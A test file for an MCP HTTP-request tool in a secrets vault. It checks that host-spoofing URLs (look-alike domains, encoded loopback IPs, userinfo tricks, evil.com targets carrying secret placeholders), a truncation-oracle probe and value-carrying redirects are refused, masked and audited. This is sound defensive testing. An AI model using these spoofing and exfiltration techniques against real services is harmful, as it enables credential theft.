/**
 * `http_request`: the host rules on their own (which URLs reach which allowed_hosts entries,
 * the tricks refused), then the tool end to end under attack: the truncation oracle, every
 * encoding of a value through an echo host, refusals audited, redirects that carry a value.
 * The ordinary uses are tested with the other tools in ../server/index.test.ts.
 */
import { randomBytes } from 'node:crypto'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createVaultClient, redact, type VaultClient } from '../../../../packages/core/src/index.ts'
import {
  createPostgresTestDatabase,
  type PostgresTestDatabase,
} from '../../../../packages/core/src/testing/databases.ts'
import {
  ENCODINGS,
  type Encoding,
  encodedText,
} from '../../../../packages/core/src/testing/encodings.ts'
import { until } from '../../../../packages/core/src/testing/expect.ts'
import { type EchoServer, startEchoServer } from '../testing/echo-server.ts'
import { isAllowedHost, parseTarget, placeholderNames, registerHttpRequestTool } from './index.ts'

const allowed = (url: string, hosts: string[]) => isAllowedHost(parseTarget(url), hosts)

describe('isAllowedHost', () => {
  it('matches exact hosts on the default port, and only those', () => {
    expect(allowed('https://api.github.com/user', ['api.github.com'])).toBe(true)
    expect(allowed('https://API.GitHub.com/user', ['api.github.com'])).toBe(true)
    expect(allowed('https://github.com/', ['api.github.com'])).toBe(false)
    expect(allowed('https://api.github.com.evil.com/', ['api.github.com'])).toBe(false)
    expect(allowed('https://evil.com/api.github.com', ['api.github.com'])).toBe(false)
    expect(allowed('https://evil.com/?h=api.github.com', ['api.github.com'])).toBe(false)
    expect(allowed('https://evil.com#@api.github.com', ['api.github.com'])).toBe(false)
    expect(allowed('https://api.github.com./', ['api.github.com'])).toBe(false)
  })

  it('matches ports: the entry’s, or the scheme’s default when it names none', () => {
    expect(allowed('https://api.github.com:8443/', ['api.github.com'])).toBe(false)
    expect(allowed('https://api.github.com:8443/', ['api.github.com:8443'])).toBe(true)
    expect(allowed('https://api.github.com/', ['api.github.com:8443'])).toBe(false)
    expect(allowed('http://127.0.0.1:5000/', ['127.0.0.1:5000'])).toBe(true)
    expect(allowed('http://127.0.0.1:5001/', ['127.0.0.1:5000'])).toBe(false)
    expect(allowed('http://127.0.0.1/', ['127.0.0.1:5000'])).toBe(false)
  })

  it('matches a *. entry on subdomains only', () => {
    const hosts = ['*.supabase.co']
    expect(allowed('https://abc.supabase.co/rest/v1', hosts)).toBe(true)
    expect(allowed('https://a.b.supabase.co/', hosts)).toBe(true)
    expect(allowed('https://supabase.co/', hosts)).toBe(false)
    expect(allowed('https://evilsupabase.co/', hosts)).toBe(false)
    expect(allowed('https://abc.supabase.co.evil.com/', hosts)).toBe(false)
  })

  it('never matches with no entries', () => {
    expect(allowed('https://api.github.com/', [])).toBe(false)
  })
})

describe('parseTarget', () => {
  const refused = (url: string, base?: string) =>
    expect(() => parseTarget(url, base === undefined ? undefined : new URL(base)), url).toThrow(
      /ACCESS_DENIED|refused|only https|not an absolute/,
    )

  it('takes https anywhere and http only to loopback', () => {
    expect(parseTarget('https://api.github.com/x').host).toBe('api.github.com')
    expect(parseTarget('http://127.0.0.1:8080/x').host).toBe('127.0.0.1:8080')
    expect(parseTarget('http://localhost:8080/').hostname).toBe('localhost')
    expect(() => parseTarget('http://api.github.com/')).toThrow(/only https/)
    expect(() => parseTarget('ftp://api.github.com/')).toThrow(/only https/)
    expect(() => parseTarget('file:///etc/passwd')).toThrow(/only https/)
    expect(() => parseTarget('/relative')).toThrow(/not an absolute URL/)
  })

  it('refuses userinfo and every other spelling of a host', () => {
    for (const url of [
      'https://api.github.com@evil.com/',
      'https://user:pass@api.github.com/',
      'https://evil.com\\@api.github.com/',
      'https://\u0430pi.github.com/', // Cyrillic а: an IDN look-alike
      'https://\uff41pi.github.com/', // fullwidth ａ, which IDNA maps to a
      'https://%61pi.github.com/',
      'https:api.github.com/',
      'https:\\\\api.github.com/',
      'https://api.github.com:443/',
      'http://2130706433:5000/', // 127.0.0.1 in decimal
      'http://0x7f.1:5000/', // in hex
      'http://0177.0.0.1:5000/', // in octal
      'http://127.1:5000/',
      'http://[::ffff:127.0.0.1]:5000/',
    ]) {
      refused(url)
    }
  })

  it('parses plain IPv6 and punycode hosts, which no allowed entry can name', () => {
    const hosts = ['api.github.com', '127.0.0.1:5000', 'localhost:5000']
    expect(allowed('http://[::1]:5000/', hosts)).toBe(false)
    // The Cyrillic look-alike, spelled as punycode.
    expect(allowed('https://xn--pi-6kc.github.com/', hosts)).toBe(false)
  })

  it('checks a redirect’s Location against the URL it answered', () => {
    const base = 'https://api.github.com/start'
    expect(parseTarget('/next', new URL(base)).href).toBe('https://api.github.com/next')
    expect(parseTarget('https://api.github.com/x', new URL(base)).host).toBe('api.github.com')
    expect(parseTarget('//evil.com/x', new URL(base)).host).toBe('evil.com')
    refused('//0x7f.1/x', base)
    refused('\\\\evil.com/x', base)
    refused('https://user@api.github.com/', base)
    refused('http://api.github.com/', base)
  })
})

describe('placeholderNames', () => {
  it('collects names once, in order', () => {
    expect(
      placeholderNames(['https://x/{{secret:a_b}}', 'Bearer {{secret:c}}', '{{secret:a_b}}']),
    ).toEqual(['a_b', 'c'])
    expect(placeholderNames(['no placeholders {{ here }}'])).toEqual([])
  })

  it('refuses invalid names and unclosed placeholders without quoting them', () => {
    expect(() => placeholderNames(['{{secret:Not-Valid}}'])).toThrow(
      /invalid secret \(9 characters\)/,
    )
    expect(() => placeholderNames(['{{secret:abc'])).toThrow(/not closed/)
  })
})

// ---------------------------------------------------------------------------------------------
// The tool end to end, attacked: the SDK's client over an in-memory transport, a vault on a
// fresh database on the real PostgreSQL server, and a loopback echo host that is allowed.
// ---------------------------------------------------------------------------------------------

const CAP = 2048
let database: PostgresTestDatabase
let vault: VaultClient
let mcp: Client
let echo: EchoServer
const SECRET = `kw${randomBytes(8).toString('hex').slice(0, 13)}`

beforeAll(async () => {
  echo = await startEchoServer()
  database = await createPostgresTestDatabase()
  vault = createVaultClient({
    env: { KEYWARDEN_DATABASE_URL: database.url, KEYWARDEN_ROOT_KEY: database.rootKey },
    accessedBy: 'mcp:attack',
    envFallback: false,
  })
  await vault.storeSecret('tok', SECRET, { allowedHosts: [echo.host] })
  const server = new McpServer({ name: 'http-request-test', version: '0.0.0' })
  registerHttpRequestTool(server, vault, () => {}, { timeoutMs: 5_000, maxResponseBytes: CAP })
  mcp = new Client({ name: 'attacker', version: '0.0.0' })
  const [clientTransport, serverTransport] = InMemoryTransport.createLinkedPair()
  await server.connect(serverTransport)
  await mcp.connect(clientTransport)
})

afterAll(async () => {
  await mcp?.close()
  await vault?.close()
  await database?.drop()
  await echo?.close()
})

interface Observation {
  isError: boolean
  text: string
  body: string
  truncated: boolean
}

async function httpRequest(args: Record<string, unknown>): Promise<Observation> {
  const result = (await mcp.callTool({ name: 'http_request', arguments: args })) as CallToolResult
  const structured = result.structuredContent as { body?: string; truncated?: boolean } | undefined
  return {
    isError: result.isError === true,
    text: result.content.map((part) => (part.type === 'text' ? part.text : '')).join('\n'),
    body: structured?.body ?? '',
    truncated: structured?.truncated ?? false,
  }
}

/** The audit rows of `tok` so far, once the client's buffer has written `count` of them. */
async function auditRows(count: number) {
  return await until(
    `${count} audit rows`,
    async () =>
      (await vault.queryAudit({ secretName: 'tok', limit: 10_000 })).filter(
        (row) => row.accessType === 'use',
      ),
    (rows) => rows.length >= count,
  )
}

describe('http_request: the truncation oracle', () => {
  // The agent's guess ends exactly at the cut; the secret travels in a header, so the host
  // has it, and the reflected body is the agent's own text.
  async function probe(known: string, candidate: string) {
    const guess = known + candidate
    const body = `${'-'.repeat(CAP - guess.length)}${guess}${'z'.repeat(10)}`
    const observed = await httpRequest({
      url: `${echo.origin}/reflect`,
      method: 'POST',
      headers: { 'x-token': '{{secret:tok}}' },
      body,
    })
    // Take out the one thing that must differ: the guess itself, where it was sent.
    const unguessed = (text: string) =>
      text.endsWith(guess) ? `${text.slice(0, -guess.length)}<guess>` : text
    return { ...observed, text: unguessed(observed.text), body: unguessed(observed.body) }
  }

  it('recovers nothing: every candidate next character gives the same result', async () => {
    const alphabet = [...new Set([...'0123456789abcdef', ...SECRET])]
    let recovered = ''
    for (let position = 0; position < SECRET.length; position++) {
      const observations = new Map<string, string>()
      for (const candidate of alphabet) {
        observations.set(candidate, JSON.stringify(await probe(recovered, candidate)))
      }
      const distinct = new Set(observations.values())
      if (distinct.size === 1) break
      // The odd one out would be the secret's next character.
      const counts = new Map<string, number>()
      for (const seen of observations.values()) counts.set(seen, (counts.get(seen) ?? 0) + 1)
      const odd = [...observations].find(([, seen]) => counts.get(seen) === 1)
      recovered += odd?.[0] ?? ''
    }
    expect(recovered).toBe('')
  })

  it('gives the same result for the true prefix as for any other, at every depth', async () => {
    for (const depth of [1, 7, SECRET.length - 1]) {
      const known = SECRET.slice(0, depth - 1)
      const right = await probe(known, SECRET.charAt(depth - 1))
      const wrong = await probe(known, SECRET.charAt(depth - 1) === 'x' ? 'y' : 'x')
      expect(right, `depth ${depth}`).toEqual(wrong)
      expect(right).toMatchObject({ isError: false, truncated: true })
      expect(right.body).toBe(`${'-'.repeat(CAP - depth)}<guess>`)
    }
  })

  it('masks a value that straddles the cut whole and cuts before it', async () => {
    const observed = await httpRequest({
      url: `${echo.origin}/reflect`,
      method: 'POST',
      headers: { 'x-token': 'x' },
      body: `${'a'.repeat(CAP - 5)}{{secret:tok}}${'z'.repeat(10)}`,
    })
    expect(observed).toMatchObject({ truncated: true, body: 'a'.repeat(CAP - 5) })
    const whole = await httpRequest({
      url: `${echo.origin}/reflect`,
      method: 'POST',
      body: `${'a'.repeat(CAP - SECRET.length - 5)}{{secret:tok}}`,
    })
    expect(whole).toMatchObject({
      truncated: false,
      body: `${'a'.repeat(CAP - SECRET.length - 5)}[REDACTED:tok]`,
    })
  })
})

describe('http_request: every encoding comes back masked (generated)', () => {
  it('masks random values in each of the encodings through an echo host', async () => {
    let stored = 0
    await fc.assert(
      fc.asyncProperty(
        fc.string({
          unit: fc.constantFrom(...'abcXYZ019_-.~/+=?&%:@ü€'),
          minLength: 8,
          maxLength: 20,
        }),
        fc.integer({ min: 0, max: ENCODINGS.length - 1 }),
        async (value, index) => {
          await vault.storeSecret('tok_gen', value, { allowedHosts: [echo.host] })
          stored++
          const observed = await httpRequest({
            url: `${echo.origin}/encode?as=${index}`,
            method: 'POST',
            body: '{{secret:tok_gen}}',
          })
          const encoding = ENCODINGS[index]
          expect(observed.isError, encoding?.name).toBe(false)
          expect(observed.body, encoding?.name).toContain('[REDACTED:tok_gen]')
          const reference = redact(encodedText(encoding as Encoding, value), { tok_gen: value })
          expect(observed.body, encoding?.name).toBe(`<${reference}>`)
        },
      ),
      { numRuns: 3 * ENCODINGS.length },
    )
    expect(stored).toBeGreaterThanOrEqual(3 * ENCODINGS.length)
  })
})

describe('http_request: refusals', () => {
  const port = () => echo.host.split(':')[1]
  // Every trick of the host rules above, each with a secret in it.
  const refusedUrls = () => [
    'https://api.github.com@evil.com/',
    'https://user:pass@api.github.com/',
    'https://evil.com\\@api.github.com/',
    'https://\u0430pi.github.com/',
    'https://\uff41pi.github.com/',
    'https://%61pi.github.com/',
    'https:api.github.com/',
    'https:\\\\api.github.com/',
    'https://api.github.com:443/',
    `http://2130706433:${port()}/`,
    `http://0x7f.1:${port()}/`,
    `http://0177.0.0.1:${port()}/`,
    `http://127.1:${port()}/`,
    `http://[::ffff:127.0.0.1]:${port()}/`,
    `http://user@${echo.host}/`,
    `https://${echo.host}@example.com/`,
    `http://0x7f.0.0.1:${port()}/`,
    'http://api.github.com/',
    'ftp://api.github.com/',
    'https://example.com/',
    `https://api.github.com.127.0.0.1.nip.io/`,
    `http://[::1]:${port()}/`,
    'https://xn--pi-6kc.github.com/',
  ]

  it('audits every refused spelling of a host, with the reason and never the value', async () => {
    const before = (await auditRows(0)).length
    const urls = refusedUrls()
    for (const url of urls) {
      const observed = await httpRequest({ url: `${url}?t={{secret:tok}}` })
      expect(observed.isError, url).toBe(true)
      expect(observed.text, url).toMatch(/^(ACCESS_DENIED|INVALID_ARGUMENT): /)
    }
    const rows = (await auditRows(before + urls.length)).slice(0, urls.length)
    for (const row of rows) {
      expect(row).toMatchObject({ success: false, accessedBy: 'mcp:attack' })
      expect(row.errorMessage).toMatch(/^http_request: (ACCESS_DENIED|INVALID_ARGUMENT): /)
      expect(row.errorMessage).not.toContain(SECRET)
    }
  })

  it('audits the other refusals too: a body on GET, a Host header, a missing secret', async () => {
    const before = (await auditRows(0)).length
    for (const args of [
      { url: `${echo.origin}/echo?t={{secret:tok}}`, body: 'x' },
      { url: `${echo.origin}/echo`, headers: { Host: 'x', 'x-t': '{{secret:tok}}' } },
      { url: `${echo.origin}/echo`, headers: { 'x-t': '{{secret:tok}} {{secret:not_there}}' } },
    ]) {
      expect((await httpRequest(args)).isError).toBe(true)
    }
    expect((await auditRows(before + 3)).length).toBeGreaterThanOrEqual(before + 3)
  })

  it('refuses a redirect whose Location carries the value without showing or storing it', async () => {
    const before = (await auditRows(0)).length
    for (const to of [
      'https://{token}.example.com/',
      `http://user@${echo.host}/{token}`,
      `http://2130706433:${port()}/{token}`,
    ]) {
      for (const upper of ['', '&upper']) {
        const observed = await httpRequest({
          url: `${echo.origin}/redirect?to=${encodeURIComponent(to)}${upper}`,
          headers: { 'x-token': '{{secret:tok}}' },
        })
        expect(observed.text, to).toMatch(/^ACCESS_DENIED: a redirect was refused: /)
        expect(observed.text.toLowerCase(), to).not.toContain(SECRET.toLowerCase())
      }
    }
    const rows = await auditRows(before + 6)
    for (const row of rows) {
      expect(row.errorMessage?.toLowerCase() ?? '').not.toContain(SECRET.toLowerCase())
    }
  })

  it('shows a followed redirect’s URL masked, whatever parsing did to it', async () => {
    const observed = await httpRequest({
      url: `${echo.origin}/redirect?to=${encodeURIComponent(`${echo.origin}/echo/{token}/../x?{token}`)}&upper`,
      headers: { 'x-token': '{{secret:tok}}' },
    })
    const result = JSON.stringify(observed)
    expect(observed.isError).toBe(false)
    expect(result.toLowerCase()).not.toContain(SECRET.toLowerCase())
  })
})
